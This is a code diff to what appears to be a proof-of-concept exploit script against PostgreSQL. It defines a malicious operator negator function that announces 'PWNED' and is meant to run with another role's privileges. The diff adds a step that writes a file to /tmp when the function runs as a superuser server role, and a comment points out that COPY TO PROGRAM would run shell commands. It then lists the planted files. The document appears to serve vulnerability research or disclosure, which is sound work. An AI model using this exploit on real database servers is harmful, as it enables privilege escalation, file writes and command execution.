@@ -21,9 +21,13 @@ from common import DSN, as_role, tool
 SETUP_ATK = r"""
 DROP OPERATOR IF EXISTS atk.=== (int, int); DROP OPERATOR IF EXISTS atk.!=== (int, int);
 DROP FUNCTION IF EXISTS atk.neg_evil(int, int);
-CREATE FUNCTION atk.neg_evil(int, int) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
+CREATE FUNCTION atk.neg_evil(int, int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
 DECLARE x text := pg_catalog.pg_current_xact_id()::text;
 BEGIN
+  BEGIN  -- as a superuser server role: a file written (COPY TO PROGRAM would run a command)
+    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', current_user, '/tmp/attack2-negator-' || x);
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
   PERFORM pg_catalog.set_config('application_name', 'PWNED-negator xid ' || x, false);
   RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
     pg_catalog.current_setting('transaction_read_only'), x;
@@ -94,6 +98,7 @@ async def main(role: str, mode: str) -> None:
     await admin.execute("REVOKE MAINTAIN ON public.users FROM attacker")
     await a.execute("DROP OPERATOR IF EXISTS atk.=== (int, int); DROP OPERATOR IF EXISTS atk.!=== (int, int)")
     for x in (a, b, admin): await x.close()
+    print("files:", sorted(f for f in os.listdir("/tmp") if f.startswith("attack2-negator")))
 
 if __name__ == "__main__":
     asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", sys.argv[2] if len(sys.argv) > 2 else "race"))
